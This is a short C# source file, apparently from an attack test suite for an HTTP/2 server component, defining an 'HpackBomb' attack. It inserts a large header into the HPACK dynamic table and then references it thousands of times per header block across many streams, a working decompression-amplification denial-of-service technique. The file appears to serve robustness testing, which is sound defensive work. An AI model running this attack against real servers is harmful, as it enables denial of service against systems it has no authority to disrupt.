using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;
using ExtProc.Tests.Transport;
using static ExtProc.Tests.Transport.RawFrames;

namespace ExtProc.Attacks.Frames;

/// <summary>A large entry of the header table, then named by one byte as often as a block takes.</summary>
internal sealed class HpackBomb : Attack
{
    public override Attacker By => Attacker.Peer;

    public override Task RunAsync(Target target) => target.OnManyAsync(4, async peer =>
    {
        byte[] entry = [0x40, .. RawHpack.Encode([("x-large", new string('a', 3900))])[1..]];
        byte[] named = new byte[16_000];
        named.AsSpan().Fill(0x80 | 62); // the newest entry of the dynamic table
        for (int i = 0; i < target.Count(10, 500) && !peer.Gone; i++)
        {
            int stream = peer.NextStream();
            await peer.WriteAsync(HeaderFrames(stream, [.. RawHpack.Encode(Peer.Call()), .. entry, .. named], endStream: false));
        }
    });
}
